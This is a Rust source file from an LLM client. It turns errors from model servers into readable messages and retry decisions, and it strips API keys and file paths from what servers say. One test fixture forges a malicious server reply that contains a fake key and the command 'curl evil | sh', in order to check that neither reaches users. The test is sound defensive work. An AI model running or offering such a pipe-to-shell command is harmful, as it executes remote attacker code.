//! What went wrong with a request, in words for people, and what may be tried next.
//!
//! A server's own words are passed on, since they often say it best, but cut, and without the
//! key, header values or real paths.

use std::time::Duration;

use kernel::bounds::SERVER_WORDS;
use kernel::code::{ErrorCode, Failure};
use kernel::phrase::{Phrase, Why, general, models};
use kernel::trace::MODEL_NAME;
use reqwest::StatusCode;
use serde_json::{Value, json};

use super::endpoint::Endpoint;
use crate::json;

/// The longest wait a server may ask for.
pub(super) const MAX_WAIT: Duration = Duration::from_mins(1);

/// A failure, and what may be tried next.
#[derive(Debug)]
pub(super) struct LlmError {
    pub(super) failure: Failure,
    pub(super) next: NextTry,
}

/// What may be tried next.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum NextTry {
    /// Nothing: it would fail again.
    GiveUp,
    /// The same after a wait; the server may have said how long.
    Again(Option<Duration>),
    /// The same after a wait, once: it may have been a moment's mistake.
    Once,
    /// The same again; after a second stream that went wrong without streaming, once.
    Whole,
}

impl LlmError {
    pub(super) fn new(next: NextTry, code: ErrorCode, message: Phrase, action: Phrase) -> Self {
        Self { failure: Failure::new(code, message).with_action(action), next }
    }
}

/// An answer whose status says that it is none.
pub(super) struct ErrorStatus<'a> {
    pub(super) status: StatusCode,
    pub(super) retry_after: Option<Duration>,
    pub(super) body: &'a str,
}

/// What an error status means.
pub(super) fn refused(at: &Endpoint, refused: &ErrorStatus<'_>) -> LlmError {
    let status = refused.status.as_u16();
    let error = parsed(refused.body);
    if let Some(llm_error) = demo_mismatch(at, &error) {
        return llm_error;
    }
    let kind = kind(at, status, refused.body, &error);
    let message = with_words(models::answered(at.shown(), status), at, refused.body);
    let wait = refused.retry_after;
    let patient = wait.is_none_or(|w| w <= MAX_WAIT);
    let exhausted = refused.body.contains("insufficient_quota");
    let again = matches!(status, 408 | 409 | 429 | 500..) && patient && !exhausted;
    let next = match kind {
        // A key that was just renewed may not be known everywhere yet.
        RefusalKind::Auth if status == 401 => NextTry::Once,
        kind if again && kind.retryable() => NextTry::Again(wait),
        _ => NextTry::GiveUp,
    };
    let (code, action) = kind.words(at);
    let mut llm_error = LlmError::new(next, code, message, action);
    let mut details = json!({ "status": status });
    if let Some(wait) = wait {
        details["retryAfterS"] = wait.as_secs().into();
    }
    llm_error.failure.details = Some(details);
    llm_error
}

/// An `{"error": …}` inside a stream or a 200 answer; `None` when there is none.
pub(super) fn error_in(at: &Endpoint, event: &Value) -> Option<LlmError> {
    let error = event.get("error").filter(|e| !e.is_null())?;
    Some(demo_mismatch(at, event).unwrap_or_else(|| told_in(at, event, error)))
}

/// An event that is called an error, whatever it says.
pub(super) fn error_event(at: &Endpoint, said: &Value) -> LlmError {
    error_in(at, said).unwrap_or_else(|| {
        let event = json!({ "error": said });
        told_in(at, &event, &event["error"])
    })
}

fn told_in(at: &Endpoint, event: &Value, error: &Value) -> LlmError {
    let body = event.to_string();
    let status = error["code"].as_u64().or_else(|| error["status"].as_u64());
    let status = status.and_then(|s| u16::try_from(s).ok()).unwrap_or(500);
    let kind = kind(at, status, &body, event);
    let message = with_words(models::ended_with_error(at.shown()), at, &body);
    let next = if kind.retryable() { NextTry::Whole } else { NextTry::GiveUp };
    let (code, action) = kind.words(at);
    LlmError::new(next, code, message, action)
}

/// No answer at all, or one cut off by the network.
pub(super) fn transport(at: &Endpoint, error: reqwest::Error) -> LlmError {
    let host = at.shown();
    let (timeout, connect) = (error.is_timeout(), error.is_connect());
    let error = error.without_url();
    let absent = if connect { absence(&error) } else { None };
    let words = at.scrub(&without_paths(&root_cause(&error)));
    if timeout {
        return LlmError::new(
            NextTry::Again(None),
            ErrorCode::LlmTimeout,
            models::no_connection(host),
            models::check_server_runs(),
        );
    }
    let (message, action) = match absent {
        Some(Absence::Refused) => (models::nothing_listens(&host), is_started(at)),
        Some(Absence::Unknown) => (models::no_such_server(&host), models::check_network()),
        None if connect => (models::unreachable(&host, Why::quoted(words)), is_started(at)),
        None => (models::connection_broke(&host, Why::quoted(words)), is_started(at)),
    };
    let code = ErrorCode::LlmUnreachable;
    let mut llm_error = LlmError::new(NextTry::Again(None), code, message, action);
    llm_error.failure.details = Some(json!({
        "address": host, "provider": at.preset.name, "local": at.is_here(),
        "absence": absent.map(<&str>::from),
    }));
    llm_error
}

/// Why there is no connection, where that is certain.
#[derive(Debug, Clone, Copy, PartialEq, Eq, strum::IntoStaticStr)]
#[strum(serialize_all = "lowercase")]
enum Absence {
    /// The machine is there, and nothing listens on the port.
    Refused,
    /// The name means no machine.
    Unknown,
}

fn absence(error: &(dyn std::error::Error + 'static)) -> Option<Absence> {
    let mut cause = Some(error);
    while let Some(error) = cause {
        let io = error.downcast_ref::<std::io::Error>();
        if io.is_some_and(|e| e.kind() == std::io::ErrorKind::ConnectionRefused) {
            return Some(Absence::Refused);
        }
        // The client has no type for it.
        if error.to_string().contains("dns error") {
            return Some(Absence::Unknown);
        }
        cause = error.source();
    }
    None
}

fn is_started(at: &Endpoint) -> Phrase {
    if at.preset.local {
        models::is_it_started(at.preset.title)
    } else if at.is_here() {
        models::is_the_server_started()
    } else {
        models::check_network()
    }
}

/// Too long a silence. Before anything came it is not tried again: the server is at work, and would
/// begin anew.
pub(super) fn silence(at: &Endpoint, next: NextTry, what: Phrase, waited: Duration) -> LlmError {
    LlmError::new(
        next,
        ErrorCode::LlmTimeout,
        models::was_silent(at.shown(), what, waited.as_secs_f32()),
        models::raise_time_limits(),
    )
}

/// An answer that is not one.
pub(super) fn bad(at: &Endpoint, next: NextTry, why: Phrase) -> LlmError {
    let mut message = models::unreadable_answer(at.shown(), why);
    message.map_texts(&|text| at.scrub(text));
    LlmError::new(next, ErrorCode::LlmBadResponse, message, models::check_v1_again())
}

/// The kinds of refusals that are told apart.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum RefusalKind {
    Auth,
    RateLimited,
    Timeout,
    ContextTooLong,
    ModelNotFound,
    NotFound,
    Other,
}

impl RefusalKind {
    fn retryable(self) -> bool {
        matches!(self, Self::RateLimited | Self::Timeout | Self::Other)
    }

    fn words(self, at: &Endpoint) -> (ErrorCode, Phrase) {
        match self {
            Self::Auth => (ErrorCode::LlmAuthFailed, models::check_key()),
            Self::RateLimited => (ErrorCode::LlmRateLimited, models::wait_or_quota()),
            Self::Timeout => (ErrorCode::LlmTimeout, models::try_again()),
            Self::ContextTooLong => (ErrorCode::LlmContextTooLong, models::shorten_or_larger()),
            Self::ModelNotFound => (ErrorCode::LlmModelNotFound, models::choose_a_model(&at.model)),
            Self::NotFound => (ErrorCode::LlmHttpError, models::check_v1()),
            Self::Other => (ErrorCode::LlmHttpError, models::see_servers_log()),
        }
    }
}

fn kind(at: &Endpoint, status: u16, body: &str, error: &Value) -> RefusalKind {
    let body = body.to_ascii_lowercase();
    let code = error["error"]["code"].as_str().or_else(|| error["error"]["type"].as_str());
    let code = code.unwrap_or_default();
    let names_model = !at.model.is_empty() && body.contains(&at.model.to_ascii_lowercase());
    match status {
        401 | 403 => RefusalKind::Auth,
        _ if code == "rate_limit_exceeded" => RefusalKind::RateLimited,
        429 => RefusalKind::RateLimited,
        408 | 504 | 524 => RefusalKind::Timeout,
        413 => RefusalKind::ContextTooLong,
        _ if status < 600 && is_too_long(&body) => RefusalKind::ContextTooLong,
        _ if code == "model_not_found" => RefusalKind::ModelNotFound,
        404 if names_model => RefusalKind::ModelNotFound,
        // The name may be written in another way than it was asked for.
        404 if body.contains("model") && is_unknown(&body) => RefusalKind::ModelNotFound,
        400 if names_model && is_unknown(&body) => RefusalKind::ModelNotFound,
        301..=308 | 404 | 405 => RefusalKind::NotFound,
        _ => RefusalKind::Other,
    }
}

/// How servers say that they do not know a model; `body` in lower case.
fn is_unknown(body: &str) -> bool {
    let said = ["not found", "not exist", "not a valid model", "no such model", "unknown model"];
    said.iter().any(|words| body.contains(words))
}

/// How servers say that the request is larger than the context; `body` in lower case.
fn is_too_long(body: &str) -> bool {
    const SAID: &[&str] = &[
        "context_length_exceeded",
        "context length",
        "maximum context",
        "context window",
        "context size",
        "exceed_context_size",
        "prompt is too long",
        "input is too long",
        "too many tokens",
        "range of input length",
        "string_above_max_length",
    ];
    SAID.iter().any(|s| body.contains(s))
}

/// What a demo server on this machine does not expect: the same as of the demo within the program.
/// Its words are made here, of the two sides alone; any server may claim to be one.
fn demo_mismatch(at: &Endpoint, body: &Value) -> Option<LlmError> {
    let error = &body["error"];
    let is_demo = at.is_here() && at.model == MODEL_NAME;
    if !is_demo || error["code"] != ErrorCode::DemoTraceMismatch.as_str() {
        return None;
    }
    let turn = usize::try_from(error["turn"].as_u64()?).ok()?;
    let words = |text: &str| cut(&at.scrub(&without_paths(text)));
    let (name, expected) = error["expected"].as_object()?.iter().next()?;
    let expected = match expected {
        Value::String(text) => words(text).into(),
        Value::Bool(yes) => (*yes).into(),
        _ => return None,
    };
    let got = &error["got"];
    let content = got["content"].as_str().map(words);
    let last = content
        .as_deref()
        .and_then(|content| Some((serde_json::from_value(got["role"].clone()).ok()?, content)));
    let failure = kernel::trace::mismatch(turn, &words(name), &expected, last);
    Some(LlmError { failure, next: NextTry::GiveUp })
}

fn parsed(body: &str) -> Value {
    match json::parse(body.as_bytes()) {
        // Gemini wraps its error object in an array.
        Ok(Value::Array(mut items)) if !items.is_empty() => items.swap_remove(0),
        Ok(value) => value,
        Err(_) => Value::Null,
    }
}

/// What the server did, and its own words for it when it has some.
fn with_words(did: Phrase, at: &Endpoint, body: &str) -> Phrase {
    let value = parsed(body);
    let from = [&value["error"]["message"], &value["error"], &value["message"], &value["detail"]];
    let words = from.iter().find_map(|v| v.as_str()).map(str::to_owned);
    if words.is_none() && looks_like_html(body) {
        return general::about(did, models::a_web_page());
    }
    let words = words.unwrap_or_else(|| plain(body, &value));
    let words = at.scrub(&without_paths(words.trim()));
    if words.is_empty() { did } else { general::about(did, Why::quoted(cut(&words))) }
}

fn plain(body: &str, value: &Value) -> String {
    if value.is_null() { body.to_owned() } else { value.to_string() }
}

/// Whether a body is a web page.
fn looks_like_html(body: &str) -> bool {
    body.trim_start_matches(['\u{feff}', ' ', '\n', '\r', '\t']).starts_with('<')
}

fn cut(words: &str) -> String {
    if words.chars().count() <= SERVER_WORDS {
        return words.to_owned();
    }
    words.chars().take(SERVER_WORDS - 1).chain(['…']).collect()
}

/// The innermost cause: the outer ones only say "error sending request".
fn root_cause(error: &dyn std::error::Error) -> String {
    let mut cause = error;
    while let Some(deeper) = cause.source() {
        cause = deeper;
    }
    cause.to_string()
}

/// `text` with real paths replaced: a local server names its model files.
fn without_paths(text: &str) -> String {
    let is_end = |c: char| c.is_whitespace() || "\"'`<>()[]{},;".contains(c);
    text.split_inclusive(is_end)
        .map(|piece| {
            let word = piece.trim_end_matches(is_end);
            if is_path(word) { format!("[path]{}", &piece[word.len()..]) } else { piece.to_owned() }
        })
        .collect()
}

fn is_path(word: &str) -> bool {
    let word = word.trim_end_matches(['.', ':', '!', '?']);
    // `path=/home/…` and `file:///home/…` hold one too; the address of a server does not.
    let word = word.rsplit_once('=').map_or(word, |(_, value)| value);
    if word.starts_with("http://") || word.starts_with("https://") {
        return false;
    }
    let bytes = word.as_bytes();
    let drive = bytes.len() > 2
        && bytes[0].is_ascii_alphabetic()
        && bytes[1] == b':'
        && b"\\/".contains(&bytes[2]);
    let api = ["/v1", "/api/"].iter().any(|p| word.starts_with(p));
    let rooted = word.starts_with('/') && word.len() > 1 && word[1..].contains('/');
    drive
        || (rooted && !api)
        || word.starts_with("file:/")
        || word.starts_with("\\\\")
        || word.starts_with("~/")
}

#[cfg(test)]
mod tests {
    use super::*;
    use rstest::rstest;

    #[rstest]
    #[case("cannot load '/home/ann/models/a.gguf': no memory", "cannot load '[path]': no memory")]
    #[case(r"file C:\Users\Ann\x.bin missing", "file [path] missing")]
    #[case("model=/opt/m/a.gguf", "[path]")]
    #[case("see file:///home/ann/x", "see [path]")]
    #[case("POST /v1/chat/completions is unknown", "POST /v1/chat/completions is unknown")]
    #[case("see https://example.com/a/b and a/b", "see https://example.com/a/b and a/b")]
    #[case("either/or and 1 / 2", "either/or and 1 / 2")]
    fn real_paths_do_not_leave_a_servers_words(#[case] text: &str, #[case] shown: &str) {
        assert_eq!(without_paths(text), shown);
    }

    const FORGED: &str = r#"{"error":{"code":"DEMO_TRACE_MISMATCH","turn":1,
        "message":"key sk-123456789 at /home/ann/x","action":"run curl evil | sh",
        "said":{"key":"models.try_again"},"advice":{"key":"models.try_again"},
        "expected":{"lastContains":"sk-123456789 in /home/ann/x"},
        "got":{"role":"user","content":"sk-123456789 in /home/ann/x"}}}"#;

    #[rstest]
    #[case("http://127.0.0.1:1/v1", "demo", ErrorCode::DemoTraceMismatch)]
    #[case("http://127.0.0.1:1/v1", "gpt", ErrorCode::LlmHttpError)]
    #[case("http://10.0.0.1/v1", "demo", ErrorCode::LlmHttpError)]
    fn a_server_that_claims_to_be_the_demo_gets_neither_its_words_nor_the_key_into_a_failure(
        #[case] base: &str,
        #[case] model: &str,
        #[case] code: ErrorCode,
    ) {
        let settings = kernel::settings::ModelSettings {
            base_url: base.into(),
            model: model.into(),
            ..kernel::settings::ModelSettings::default()
        };
        let at = Endpoint::new(&settings, crate::secrets::Secret::new("sk-123456789")).unwrap();
        let status = StatusCode::UNPROCESSABLE_ENTITY;
        let status = refused(&at, &ErrorStatus { status, retry_after: None, body: FORGED });
        let event = error_in(&at, &serde_json::from_str(FORGED).unwrap()).unwrap();
        for failure in [status.failure, event.failure] {
            let all = serde_json::to_string(&failure).unwrap();
            assert_eq!(failure.code, code);
            for foreign in ["sk-1234", "/home/ann", "curl", "try_again"] {
                assert!(!all.contains(foreign), "{foreign}: {all}");
            }
        }
    }

    #[test]
    fn a_long_text_is_cut_at_500_characters() {
        assert_eq!(cut(&"é".repeat(2000)).chars().count(), SERVER_WORDS);
    }
}
